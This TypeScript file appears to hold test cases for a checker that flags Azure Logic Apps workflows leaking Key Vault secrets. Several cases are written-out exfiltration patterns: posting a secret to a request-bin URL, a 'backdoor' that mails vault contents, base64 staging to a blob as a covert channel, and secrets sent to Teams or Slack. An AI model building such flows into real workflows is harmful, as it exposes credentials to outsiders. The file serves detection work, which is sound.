import { secured } from "../../../../definition";
import { http, readingStack } from "../../stacks/stack-builder";
import { playbooks, posts, threads } from "../addresses";
import type { CasesByKind } from "../reported-case";

const hidden = ["hidden-tokens"];
const secret = "@{body('Get_secret')?['value']}";
const open = { runtimeConfiguration: {} };
function byConnection(connector: string, path: string, body: unknown): object {
  return {
    type: "ApiConnection",
    inputs: {
      host: { connection: { name: `@parameters('$connections')['${connector}']['connectionId']` } },
      method: "post",
      path,
      body,
    },
    runtimeConfiguration: secured,
  };
}

function toTeams(messageBody: string): object {
  return byConnection("teams", "/beta/teams/conversation/message/poster/Flow bot/location/Channel", { messageBody });
}

/** Receivers at which a secret stays readable. */
export const receivers = {
  exfil: [
    {
      id: "secret-to-a-request-bin",
      what: "the secret, sent to a request bin to see whether it is the right one, in the open",
      source: posts.requestBin,
      rules: hidden,
      stack: readingStack({
        Show: http("POST", "https://en1y5xpu7zs5.x.pipedream.net/", { body: secret }, open),
      }),
    },
    {
      id: "status-of-the-rotation-to-teams",
      what: "a summary of each rotation, posted to a channel, with the new value in it",
      source: posts.generatedPassword,
      rules: hidden,
      stack: readingStack({ Post: toTeams(`rotated to ${secret}`) }),
    },
    {
      id: "status-of-the-rotation-without-the-value",
      what: "a summary of each rotation that names the new version only",
      source: posts.generatedPassword,
      rules: [],
      stack: readingStack({ Post: toTeams("rotated: @{body('Get_secret')?['id']}") }),
    },
    {
      id: "new-password-to-the-manager",
      what: "a user's new password, mailed to the manager by an action that hides it",
      source: playbooks.passwordReset,
      rules: hidden,
      stack: readingStack({
        Password: { type: "Compose", inputs: "@guid()" },
        HTTP: http("PATCH", "https://graph.microsoft.com/v1.0/users/x", {
          authentication: { type: "ManagedServiceIdentity", audience: "https://graph.microsoft.com" },
          body: { passwordProfile: { password: "@outputs('Password')" } },
        }),
        Mail: byConnection("office365", "/v2/Mail", { Body: "The temporary password is: @{outputs('Password')}" }),
      }),
    },
    {
      id: "secrets-to-a-mail",
      what: "a backdoor that mails what it read from the vault",
      source: posts.persistence,
      rules: hidden,
      stack: readingStack({ Mail: byConnection("office365", "/v2/Mail", { To: "x@example.com", Body: secret }) }),
    },
  ],
  sink: [
    {
      id: "secret-into-a-blob",
      what: "results of a covert channel, staged in a blob",
      source: posts.covertChannel,
      rules: hidden,
      stack: readingStack({
        Stage: http("PUT", "https://stage.blob.core.windows.net/out/1", {
          body: { data: `@{base64(${secret.slice(2, -1)})}` },
        }),
      }),
    },
    {
      id: "lengths-into-a-blob",
      what: "how long the secret is, in a blob",
      source: posts.covertChannel,
      rules: [],
      stack: readingStack({
        Stage: http("PUT", "https://stage.blob.core.windows.net/out/1", {
          body: { length: "@length(body('Get_secret')?['value'])" },
        }),
      }),
    },
    {
      id: "secret-into-slack",
      what: "a secret in a message of Slack's incoming webhook, whose address comes from the vault",
      source: threads.hiddenAddress,
      rules: hidden,
      stack: readingStack({
        Post: byConnection("slack", "/v2/chat.postMessage", { channel: "ops", text: secret }),
      }),
    },
  ],
} satisfies CasesByKind;
